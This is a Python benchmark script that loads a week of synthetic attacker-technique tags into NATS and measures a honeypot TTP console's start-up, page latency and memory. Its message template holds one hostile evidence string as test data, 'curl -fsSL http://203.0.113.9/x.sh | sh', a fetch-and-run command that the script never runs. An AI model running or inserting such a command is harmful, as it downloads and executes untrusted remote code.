"""Benchmark of the web console at scale: a week of tags in TTP_TAGS, then its pages.

Run from the repository root:

    .venv/bin/python -m bench.console [--quick] [--keep] [--tags N] [--tags-per-message N]
                                      [--attackers N] [--requests N]

It starts its own nats-server (JetStream in a temporary directory, random free port) with the
shipped accounts config and fresh passwords, and stops every process it started, also on
Ctrl-C, SIGTERM or an error. Every process logs in as its own NATS role: the streams are
created as the master creates them (the master role, the master's default stream settings),
the starter pack's 84 rules are published into TTP_RULES in the master's form as the master
role (bench/rule_messages.py, so the coverage map has rules to show), the tags as the worker
role (the only role that may publish `ttp.tagged.>`), and the console runs as the console
role. The permission violations in the server's log are printed at the end; any one makes the
run fail (exit status 1): a missing grant means the figures measure a failure.

The tags: ``--tags`` of them (1,000,000; quick: 100,000), ``--tags-per-message`` per message
(one message per event, as workers publish), spread over the last 6.9 days, over the
catalogue's techniques with a skewed mix (a few techniques carry most tags, as in honeypot
traffic), over ``--attackers`` attacker uuids and the seeded rules. Then a real `ttp-console`
process starts (proxy login mode, the benchmark's loopback address trusted; every other
setting at its default) and this is measured (the load average is printed at the start of
every section):

1. Start: process start -> first 200 of ``/`` (the matrix renders while the week still
   loads), and -> ``/readyz`` 200 (the tag and rule feeds caught up); the console's CPU
   seconds until caught up, also per 100,000 tags (from /proc: the figure to compare on a
   loaded machine). Until caught up, the 24 h and 7 d matrices are requested in turn, one at
   a time, 0.1 s apart: page latency while loading.
2. Pages once caught up: the matrix (each window and the coverage map), a technique
   inspector, an attacker page and the attackers list, ``--requests`` sequential requests
   each (100; quick: 20) after one warm-up: p50, p99 (nearest rank: of 100 requests the
   second worst, of 20 the worst), max wall time, and the console's CPU milliseconds per
   request (mean, and p99 and max of each request's, in the kernel's 10 ms ticks). The
   machine's busy CPUs over the section (every process) tell a slow page from one that
   waited for a CPU others held.
3. Memory: the console's RSS once caught up and after the pages, and its peak (VmHWM).

Targets, from "the matrix and attacker pages stay responsive with 1,000,000 tags in the window,
and the console's memory stays bounded", judged PASS/MISS:

- every page p99 < 200 ms once caught up: below that a click feels immediate, which is what
  "responsive" asks of a page a person clicks through (the inspector, then the attacker);
- matrix p99 < 1 s while the week loads: a console that was just restarted (a deploy, a pod
  moved) answers within the second a person waits before retrying, and never blocks on the
  load;
- first page < 3 s after the process starts: the console is usable again in about the time a
  browser takes to give up on a reload and show an error;
- peak RSS < 300 MiB with 1,000,000 tags: bounded means a figure that does not grow with the
  tags; 300 MiB is the bound the master has too, and well within the console's Kubernetes
  memory limit (768 MiB).

The quick run holds a tenth of the tags, so its figures do not judge the 1,000,000-tag targets
(memory, load time); they are printed all the same. The last line of stdout is one JSON object
holding every figure; the exit status is 0 unless the script fails or NATS refused something.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import dataclasses
import itertools
import json
import os
import random
import sys
import time
import uuid
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any, ClassVar, Final

import aiohttp
from bench.fleet import create_streams, mib, print_load, seed_rules, status_kib
from bench.master import (
    BIN_DIR,
    STARTER_RULES,
    BenchError,
    ServiceProcess,
    busy_cpu_seconds,
    cpu_seconds,
    distribution,
    load_templates,
    machine_figures,
    ms,
    percentile,
    report_violations,
    roles_note,
    run_bench,
    section,
    start_nats,
    verdict,
)
from nats.js.client import JetStreamContext

from ttp_core.attack.catalogue import load_catalogue
from ttp_core.contract import subjects
from ttp_core.contract.payloads import EventTagged, TagData, encode, envelope, worker_source
from ttp_runtime.embedded import free_port
from ttp_runtime.nats_roles import Role

if TYPE_CHECKING:  # annotations only; bench/master.py starts the server (start_nats)
    from harness.nats_roles import RoleNats

CONSOLE_BIN: Final = BIN_DIR / "ttp-console"
WEEK_S: Final = 7 * 24 * 3600.0
PUBLISH_FLUSH_EVERY: Final = 5000
PUBLISH_BUFFER: Final = 64 * 1024 * 1024
STORE_TIMEOUT_S: Final = 120.0
START_TIMEOUT_S: Final = 300.0
LOADING_GAP_S: Final = 0.1
STOP_TIMEOUT_S: Final = 15.0
USER_HEADER: Final = {"X-Forwarded-User": "bench"}
SEED: Final = 7

TARGET_PAGE_P99_MS: Final = 200.0
TARGET_LOADING_P99_MS: Final = 1000.0
TARGET_FIRST_PAGE_S: Final = 3.0
TARGET_PEAK_RSS_MIB: Final = 300.0
TARGET_TAGS: Final = 1_000_000
"""The memory and load targets speak of this many tags; a smaller run does not judge them."""

CONSOLE_BENCH_ROLES: Final[Mapping[str, Role]] = {
    "ttp-console": "console",
    "the tag publisher": "worker",
    "the streams and the rule messages": "master",
}


@dataclass(frozen=True, slots=True)
class Settings:
    """How much work each section does; `--quick` trades precision for a run under 30 s."""

    tags: int
    tags_per_message: int
    attackers: int
    requests: int

    @classmethod
    def for_mode(cls, quick: bool) -> Settings:
        if quick:
            return cls(tags=100_000, tags_per_message=2, attackers=10_000, requests=20)
        return cls(tags=TARGET_TAGS, tags_per_message=2, attackers=50_000, requests=100)


# --------------------------------------------------------------------------------------------
# The week of tags
# --------------------------------------------------------------------------------------------


def _template(tags_per_message: int) -> bytes:
    """One tag message with placeholders the generator replaces by plain byte swaps."""
    tags = [
        TagData(
            uuid=f"{n:036d}",
            rule_id=f"RULE{n}XXXXXXXX",
            rule_version=1,
            tactic="TA0002",
            technique_id=f"TECH{n}XXXX",
            sub_technique_id=None,
            confidence=0.75,
            evidence={
                "command_text": "curl -fsSL http://203.0.113.9/x.sh | sh",
                "username": "root",
            },
            attack_version="18.1",
            mitre_url="https://attack.mitre.org/techniques/T1059/",
        )
        for n in range(tags_per_message)
    ]
    data = EventTagged(
        source_kind="command",
        source_id="SOURCEXXXXXXXXXX",
        attacker_uuid="ATTACKERXXXXXXXXXXXXXXXXXXXXXXXXXXXX",
        revision=1,
        tags=tags,
    )
    when = datetime(2000, 1, 1, tzinfo=UTC)
    return encode(envelope(data, source=worker_source("bench"), subject="x", time=when))


def messages(
    total_tags: int, per_message: int, attackers: int, rule_ids: Sequence[str], seed: int = SEED
) -> list[bytes]:
    """The tag messages, their times spread over the last 6.9 days."""
    rng = random.Random(seed)
    catalogue = load_catalogue()
    techniques = [t.id for t in catalogue.techniques() if not t.revoked and not t.deprecated]
    # Skewed like honeypot traffic: a few techniques carry most tags.
    cumulative = list(itertools.accumulate(1.0 / (rank + 1) for rank in range(len(techniques))))
    template = _template(per_message)
    now = datetime.now(UTC)
    base_time = _envelope_time(template)
    out = []
    for n in range(total_tags // per_message):
        body = template
        for slot in range(per_message):
            technique = rng.choices(techniques, cum_weights=cumulative)[0]
            parent, dot, _ = technique.partition(".")
            body = body.replace(
                f'"technique_id":"TECH{slot}XXXX","sub_technique_id":null'.encode(),
                (
                    f'"technique_id":"{parent}","sub_technique_id":"{technique}"'
                    if dot
                    else f'"technique_id":"{parent}","sub_technique_id":null'
                ).encode(),
            )
            body = body.replace(f"RULE{slot}XXXXXXXX".encode(), rng.choice(rule_ids).encode())
        when = now - timedelta(seconds=rng.uniform(60, WEEK_S - 3 * 3600))
        body = body.replace(base_time, when.isoformat().replace("+00:00", "Z").encode())
        body = body.replace(b"SOURCEXXXXXXXXXX", f"evt-{n:012d}".encode())
        body = body.replace(
            b"ATTACKERXXXXXXXXXXXXXXXXXXXXXXXXXXXX",
            str(uuid.UUID(int=rng.randrange(attackers))).encode(),
        )
        out.append(body)
    return out


def _envelope_time(raw: bytes) -> bytes:
    value: str = json.loads(raw)["time"]
    return value.encode()


async def publish_tags(bus: RoleNats, bodies: Sequence[bytes]) -> float:
    """Core publishes on the tag subject as the worker role (JetStream stores them), in
    windows whose storage is awaited; seconds taken."""
    started = time.perf_counter()

    async def on_error(exc: Exception) -> None:
        print(f"NATS error on the benchmark's worker connection: {exc}", flush=True)

    # A large client buffer: the publishes outrun the socket between two flushes.
    nc = await bus.connect(
        "worker", name="bench-console-tags", pending_size=PUBLISH_BUFFER, error_cb=on_error
    )
    try:
        js = nc.jetstream()
        subject = subjects.tagged("command")
        for n, body in enumerate(bodies, 1):
            await nc.publish(subject, body)
            if n % PUBLISH_FLUSH_EVERY == 0:
                await nc.flush(timeout=60)
                await _wait_stored(js, n, slack=4 * PUBLISH_FLUSH_EVERY)
        await nc.flush(timeout=60)
        await _wait_stored(js, len(bodies), slack=0)
    finally:
        await nc.close()
    return time.perf_counter() - started


async def _wait_stored(js: JetStreamContext, count: int, slack: int) -> None:
    deadline = time.monotonic() + STORE_TIMEOUT_S
    held = 0
    while time.monotonic() < deadline:
        info = await js.stream_info(subjects.STREAM_TAGS)
        held = info.state.messages
        if held >= count - slack:
            return
        await asyncio.sleep(0.02)
    raise BenchError(f"TTP_TAGS holds {held} of {count} messages")


# --------------------------------------------------------------------------------------------
# The console
# --------------------------------------------------------------------------------------------


class ConsoleProcess(ServiceProcess):
    """`ttp-console` as the console role, in proxy mode trusting only loopback; JSON logs.
    Its pages answer on a port of their own, beside the health port (`url`)."""

    kind: ClassVar[str] = "console"
    stop_timeout_s: ClassVar[float] = STOP_TIMEOUT_S

    def __init__(self, bus: RoleNats, workdir: Path) -> None:
        self.port = free_port()
        super().__init__(
            CONSOLE_BIN,
            "console",
            workdir / "console.log",
            {
                **bus.env("console"),
                "TTP_CONSOLE_HOST": "127.0.0.1",
                "TTP_CONSOLE_PORT": str(self.port),
                "TTP_CONSOLE_AUTH": "proxy",
                "TTP_CONSOLE_TRUSTED_PROXIES": "127.0.0.1/32",
            },
        )

    @property
    def base(self) -> str:
        """Where the pages are."""
        return f"http://127.0.0.1:{self.port}"

    @property
    def readyz(self) -> str:
        return f"{self.url}/readyz"

    def check_alive(self) -> None:
        """Raise `BenchError` with the log's tail once the console has exited."""
        if self._popen is not None and self._popen.poll() is not None:
            raise BenchError(
                f"the console exited with {self._popen.returncode}:\n{self.log_tail(10)}"
            )

    def stop(self) -> tuple[int | None, float]:
        """SIGTERM, then SIGKILL after `stop_timeout_s`: (exit code, seconds to exit)."""
        code, seconds, _target = self._terminate()
        return code, seconds


def start_console(bus: RoleNats, workdir: Path, cleanup: contextlib.ExitStack) -> ConsoleProcess:
    """A started `ConsoleProcess`, stopped by `cleanup` unless stopped before."""
    console = ConsoleProcess(bus, workdir).start()
    cleanup.callback(console.stop)
    return console


async def timed_get(http: aiohttp.ClientSession, url: str) -> tuple[int, float]:
    """(status, seconds) of one GET, the body read."""
    started = time.perf_counter()
    async with http.get(url, headers=USER_HEADER, allow_redirects=False) as response:
        await response.read()
        return response.status, time.perf_counter() - started


async def status_of(http: aiohttp.ClientSession, url: str) -> int | None:
    with contextlib.suppress(aiohttp.ClientError):
        status, _ = await timed_get(http, url)
        return status
    return None


async def wait_first_page(http: aiohttp.ClientSession, console: ConsoleProcess) -> float:
    """perf_counter when ``/`` first answered 200."""
    deadline = time.perf_counter() + START_TIMEOUT_S
    while time.perf_counter() < deadline:
        console.check_alive()
        if await status_of(http, console.base + "/") == 200:
            return time.perf_counter()
        await asyncio.sleep(0.02)
    raise BenchError(f"no page within {START_TIMEOUT_S} s of the console's start")


async def load_phase(
    http: aiohttp.ClientSession, console: ConsoleProcess
) -> tuple[float, dict[str, list[float]]]:
    """Matrix requests (24 h, 7 d in turn) until ``/readyz`` says 200: (perf_counter of that
    200, samples by page)."""
    samples: dict[str, list[float]] = {"matrix_24h": [], "matrix_7d": []}
    paths = itertools.cycle((("matrix_24h", "/"), ("matrix_7d", "/?window=7d")))
    deadline = time.perf_counter() + START_TIMEOUT_S
    while time.perf_counter() < deadline:
        console.check_alive()
        if await status_of(http, console.readyz) == 200:
            return time.perf_counter(), samples
        name, path = next(paths)
        status, seconds = await timed_get(http, console.base + path)
        if status != 200:
            raise BenchError(f"{path} answered {status} while loading")
        samples[name].append(seconds)
        await asyncio.sleep(LOADING_GAP_S)
    raise BenchError(f"the console did not catch up within {START_TIMEOUT_S} s")


def memory(pid: int | None) -> dict[str, float | None]:
    return {"rss_mib": mib(status_kib(pid, "VmRSS")), "peak_mib": mib(status_kib(pid, "VmHWM"))}


async def page_latency(
    http: aiohttp.ClientSession, console: ConsoleProcess, pages: Mapping[str, str], requests: int
) -> dict[str, dict[str, Any]]:
    """Per page: one warm-up, then `requests` sequential GETs; wall figures and console CPU."""
    results: dict[str, dict[str, Any]] = {}
    for name, path in pages.items():
        status, _ = await timed_get(http, console.base + path)
        if status != 200:
            raise BenchError(f"{path} answered {status}")
        cpu_before = cpu_seconds(console.pid)
        walls, cpus = [], []
        for _ in range(requests):
            cpu_at = cpu_seconds(console.pid)
            status, seconds = await timed_get(http, console.base + path)
            if status != 200:
                raise BenchError(f"{path} answered {status}")
            walls.append(seconds)
            cpus.append(cpu_seconds(console.pid) - cpu_at)
        cpu = cpu_seconds(console.pid) - cpu_before
        results[name] = distribution(walls) | {
            "path": path,
            "cpu_ms_per_request": round(cpu / requests * 1000, 2),
            "cpu_p99_ms": ms(percentile(cpus, 99)),
            "cpu_max_ms": ms(max(cpus)),
        }
    return results


class MachineShare:
    """How busy the whole machine was over a span: CPUs in use on average (of all of them),
    to tell a slow page from a page that waited for a CPU other processes held."""

    def __init__(self) -> None:
        self._busy = busy_cpu_seconds()
        self._at = time.perf_counter()

    def busy_cpus(self) -> float:
        wall = time.perf_counter() - self._at
        return round((busy_cpu_seconds() - self._busy) / wall, 2) if wall > 0 else 0.0


# --------------------------------------------------------------------------------------------
# Main
# --------------------------------------------------------------------------------------------


async def run_all(
    args: argparse.Namespace,
    settings: Settings,
    cleanup: contextlib.ExitStack,
    workdir: Path,
    violations: list[str],
) -> dict[str, Any]:
    figures: dict[str, Any] = {
        "bench": "console",
        "quick": args.quick,
        "machine": machine_figures(),
        "settings": dataclasses.asdict(settings),
        "nats_roles": CONSOLE_BENCH_ROLES,
        "targets": {
            "page_p99_ms": TARGET_PAGE_P99_MS,
            "loading_p99_ms": TARGET_LOADING_P99_MS,
            "first_page_s": TARGET_FIRST_PAGE_S,
            "peak_rss_mib": TARGET_PEAK_RSS_MIB,
        },
    }
    loads: dict[str, list[float]] = {}
    section_s: dict[str, float] = {}

    # ------------------------------------------------------------ 0. the week
    section(f"0. a week of {settings.tags:,} tags in TTP_TAGS")
    loads["seed"] = print_load()
    started = time.perf_counter()
    bus = start_nats(workdir / "nats", cleanup)
    print(f"NATS on {bus.url}", flush=True)
    print(roles_note(CONSOLE_BENCH_ROLES), flush=True)
    await create_streams(bus, "bench-console-streams")
    templates = load_templates(STARTER_RULES)
    seeding = await seed_rules(bus, templates, 0, len(templates), 1)
    rule_ids = [f"COLD-{n:06d}" for n in range(len(templates))]
    generated = time.perf_counter()
    bodies = messages(settings.tags, settings.tags_per_message, settings.attackers, rule_ids)
    generated = time.perf_counter() - generated
    # Read last, so certainly among the attackers the console keeps.
    attacker = json.loads(bodies[-1])["data"]["attacker_uuid"]
    size_mb = sum(map(len, bodies)) / 1e6
    publish_s = await publish_tags(bus, bodies)
    count = len(bodies)
    del bodies
    print(
        f"{seeding.published} rule messages in TTP_RULES; {count:,} tag messages of "
        f"{settings.tags_per_message} tags ({size_mb:.0f} MB, {settings.attackers:,} attackers)"
        f" generated in {generated:.1f} s, published and stored in {publish_s:.1f} s",
        flush=True,
    )
    figures["seed"] = {
        "rules": seeding.published,
        "messages": count,
        "megabytes": round(size_mb, 1),
        "generate_s": round(generated, 2),
        "publish_s": round(publish_s, 2),
    }
    section_s["seed"] = round(time.perf_counter() - started, 2)

    judged_at_scale = settings.tags >= TARGET_TAGS
    scale_note = "" if judged_at_scale else f" (not judged: the target is at {TARGET_TAGS:,} tags)"
    async with aiohttp.ClientSession() as http:
        # ------------------------------------------------------------ 1. start
        section("1. start: first page, pages while loading, caught up")
        loads["start"] = print_load()
        started = time.perf_counter()
        share = MachineShare()
        console = start_console(bus, workdir, cleanup)
        first_page = await wait_first_page(http, console)
        ready, loading = await load_phase(http, console)
        cpu_ready = cpu_seconds(console.pid)
        first_page_s = first_page - console.started
        caught_up_s = ready - console.started
        loading_all = [s for samples in loading.values() for s in samples]
        start: dict[str, Any] = {
            "first_page_s": round(first_page_s, 3),
            "caught_up_s": round(caught_up_s, 3),
            "cpu_until_caught_up_s": round(cpu_ready, 2),
            "cpu_per_100k_tags_s": round(cpu_ready / settings.tags * 100_000, 3),
            "while_loading": {name: distribution(s) for name, s in loading.items()}
            | {"all": distribution(loading_all)},
            "memory_caught_up": memory(console.pid),
            "machine_busy_cpus": share.busy_cpus(),
        }
        print(
            f"first page {first_page_s:.2f} s after the process started; caught up "
            f"(/readyz 200) after {caught_up_s:.2f} s, {cpu_ready:.1f} s of console CPU "
            f"({start['cpu_per_100k_tags_s']:.2f} s per 100,000 tags, start-up included); "
            f"the machine's CPUs busy meanwhile: {start['machine_busy_cpus']} of {os.cpu_count()}"
        )
        for name, f in start["while_loading"].items():
            if f["requests"]:
                print(
                    f"  while loading, {name}: p50 {f['p50_ms']:.1f} ms, p99 {f['p99_ms']:.1f}"
                    f" ms, max {f['max_ms']:.1f} ms ({f['requests']} requests)"
                )
        first_ok = first_page_s < TARGET_FIRST_PAGE_S
        print(
            f"{verdict(first_ok)}  first page < {TARGET_FIRST_PAGE_S:.0f} s after the start: "
            f"{first_page_s:.2f} s"
        )
        loading_p99 = start["while_loading"]["all"].get("p99_ms")
        loading_ok = loading_p99 is not None and loading_p99 < TARGET_LOADING_P99_MS
        print(
            f"{verdict(loading_ok)}  matrix p99 < {TARGET_LOADING_P99_MS:.0f} ms while the week "
            f"loads: {loading_p99} ms ({len(loading_all)} requests)"
            + ("" if loading_all else ": caught up before any request")
        )
        start["targets"] = {"first_page": first_ok, "while_loading": loading_ok}
        figures["start"] = start
        section_s["start"] = round(time.perf_counter() - started, 2)

        # ------------------------------------------------------------ 2. pages
        section(f"2. pages once caught up ({settings.requests} requests each)")
        loads["pages"] = print_load()
        started = time.perf_counter()
        pages = {
            "matrix_24h": "/",
            "matrix_1h": "/?window=1h",
            "matrix_7d": "/?window=7d",
            "matrix_covered": "/?heat=covered",
            "technique_T1059": "/techniques/T1059",
            "attacker": f"/attackers/{attacker}",
            "attackers": "/attackers",
        }
        share = MachineShare()
        latency = await page_latency(http, console, pages, settings.requests)
        busy = share.busy_cpus()
        for name, f in latency.items():
            print(
                f"  {name}: p50 {f['p50_ms']:.1f} ms, p99 {f['p99_ms']:.1f} ms, "
                f"max {f['max_ms']:.1f} ms; console CPU {f['cpu_ms_per_request']:.1f} ms "
                f"per request (p99 {f['cpu_p99_ms']:.0f} ms, max {f['cpu_max_ms']:.0f} ms)"
            )
        print(
            f"  the machine's CPUs busy meanwhile (every process): {busy} of {os.cpu_count()};"
            " a wall p99 far above the CPU p99 is time spent waiting for a CPU"
        )
        figures["pages_machine_busy_cpus"] = busy
        worst = max(latency.items(), key=lambda item: float(item[1]["p99_ms"]))
        pages_ok = float(worst[1]["p99_ms"]) < TARGET_PAGE_P99_MS
        print(
            f"{verdict(pages_ok)}  every page p99 < {TARGET_PAGE_P99_MS:.0f} ms once caught up: "
            f"worst {worst[0]} {worst[1]['p99_ms']:.1f} ms"
        )
        figures["pages"] = latency
        figures["pages_target"] = {"worst": worst[0], "pass": pages_ok}
        section_s["pages"] = round(time.perf_counter() - started, 2)

        # ------------------------------------------------------------ 3. memory
        section("3. memory")
        loads["memory"] = print_load()
        after = memory(console.pid)
        caught = start["memory_caught_up"]
        print(
            f"console RSS {caught['rss_mib']} MiB caught up, {after['rss_mib']} MiB after the "
            f"pages; peak (VmHWM) {after['peak_mib']} MiB"
        )
        peak = after["peak_mib"]
        memory_ok = peak is not None and peak < TARGET_PEAK_RSS_MIB
        print(
            f"{verdict(memory_ok) if judged_at_scale else 'n/a '}  peak RSS < "
            f"{TARGET_PEAK_RSS_MIB:.0f} MiB with "
            f"{settings.tags:,} tags: {peak} MiB{scale_note}"
        )
        figures["memory"] = {
            "caught_up": caught,
            "after_pages": after,
            "target": {"pass": memory_ok, "judged": judged_at_scale},
        }
        code, seconds = console.stop()
        print(f"\nconsole stopped (SIGTERM): exit {code} in {seconds:.2f} s")
        figures["stop"] = {"exit_code": code, "seconds": round(seconds, 3)}

    violations.extend(report_violations(bus, "the whole run"))
    figures["nats_violations"] = violations
    loads["end"] = print_load()
    figures["loadavg"] = loads
    figures["section_s"] = section_s
    return figures


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    parser.add_argument("--quick", action="store_true", help="smaller run, under 30 s")
    parser.add_argument(
        "--keep", action="store_true", help="keep the work directory (console log, server data)"
    )
    parser.add_argument("--tags", type=int, help="tags in the week (1,000,000; quick 100,000)")
    parser.add_argument("--tags-per-message", type=int, help="tags per message (2)")
    parser.add_argument("--attackers", type=int, help="attacker uuids (50,000; quick 10,000)")
    parser.add_argument("--requests", type=int, help="requests per page (100; quick 20)")
    args = parser.parse_args(argv)
    settings = Settings.for_mode(args.quick)
    chosen = {
        name: value
        for name in ("tags", "tags_per_message", "attackers", "requests")
        if (value := getattr(args, name)) is not None
    }
    settings = dataclasses.replace(settings, **chosen)
    if settings.tags < settings.tags_per_message or settings.requests < 1:
        parser.error("--tags must be at least --tags-per-message, --requests at least 1")
    if not CONSOLE_BIN.is_file():
        print(f"{CONSOLE_BIN} not found: install the project into this environment")
        return 2
    violations: list[str] = []
    status = run_bench(
        args,
        title="ttp-console benchmark",
        slug="console",
        run=lambda cleanup, workdir: run_all(args, settings, cleanup, workdir, violations),
        kept_note=" (console log, server data)",
    )
    if status == 0 and violations:
        # After the JSON line, which stays the last line of stdout.
        print(f"FAILED: NATS refused {len(violations)} publish/subscribe(s)", file=sys.stderr)
        return 1
    return status


if __name__ == "__main__":
    raise SystemExit(main())
